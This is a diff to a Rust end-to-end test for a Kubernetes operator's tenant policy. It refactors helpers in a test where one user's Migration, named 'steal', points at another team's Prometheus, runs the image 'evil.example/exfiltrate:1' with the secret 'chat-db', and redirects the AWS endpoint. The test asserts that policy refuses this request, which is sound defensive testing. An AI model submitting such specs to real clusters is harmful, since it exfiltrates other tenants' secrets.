@@ -9,7 +9,7 @@ use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
 use std::time::Duration;
 
-use ficus_e2e::operator::{Operator, test_namespace, wait_for, wait_for_job};
+use ficus_e2e::operator::{Operator, degraded, migration, test_namespace, wait_for, wait_for_job};
 use ficus_operator::crd::{Migration, Phase};
 use ficus_operator::policy::Policy;
 use ficus_operator::run::Config;
@@ -54,15 +54,6 @@ async fn trap() -> (String, Arc<AtomicUsize>) {
         }
     });
     (url, hits)
-}
-
-fn degraded(m: &Migration) -> Option<(String, String, String)> {
-    m.status
-        .as_ref()?
-        .conditions
-        .iter()
-        .find(|c| c.type_ == "Degraded")
-        .map(|c| (c.status.clone(), c.reason.clone(), c.message.clone()))
 }
 
 #[tokio::test]
@@ -110,19 +101,17 @@ jobServiceAccount: ficus-jobs
     // Bob reaches for team A's Prometheus, runs his own image with team A's kind of Secret, and
     // points the AWS SDK at his own endpoint.
     let bobs: Api<Migration> = Api::namespaced(bob.clone(), &team_b);
-    let steal: Migration = serde_json::from_value(json!({
-        "apiVersion": "ficus.dev/v1alpha1",
-        "kind": "Migration",
-        "metadata": { "name": "steal" },
-        "spec": {
+    let steal = migration(
+        "steal",
+        json!({
             "service": "chat",
             "flags": { "configMap": { "name": "flags" } },
             "steps": [100],
             "analysis": { "prometheus": { "url": team_a_prometheus }, "gates": [] },
             "backfill": { "image": "evil.example/exfiltrate:1", "args": ["x"], "secretName": "chat-db" },
             "aws": { "endpointUrl": "http://127.0.0.1:9/" },
-        },
-    }))?;
+        }),
+    );
     bobs.create(&PostParams::default(), &steal).await?;
     let refused = wait_for(&bobs, "steal", LONG, "PolicyRefused", |m| {
         degraded(m).is_some_and(|(s, r, _)| s == "True" && r == "PolicyRefused")
@@ -166,18 +155,16 @@ jobServiceAccount: ficus-jobs
     // Alice's Migration stays within team A's allowlists: it runs, its Job as the policy's
     // ServiceAccount without an API token.
     let alices: Api<Migration> = Api::namespaced(alice.clone(), &team_a);
-    let allowed: Migration = serde_json::from_value(json!({
-        "apiVersion": "ficus.dev/v1alpha1",
-        "kind": "Migration",
-        "metadata": { "name": "move" },
-        "spec": {
+    let allowed = migration(
+        "move",
+        json!({
             "service": "chat",
             "flags": { "configMap": { "name": "flags" } },
             "steps": [100],
             "shadow": { "duration": "0s" },
             "backfill": { "image": "registry.example/chat-service:1.0", "args": ["backfill"], "secretName": "chat-db" },
-        },
-    }))?;
+        }),
+    );
     alices.create(&PostParams::default(), &allowed).await?;
     let job = wait_for_job(&admin, &team_a, "chat-backfill-1", LONG).await;
     let pod = job
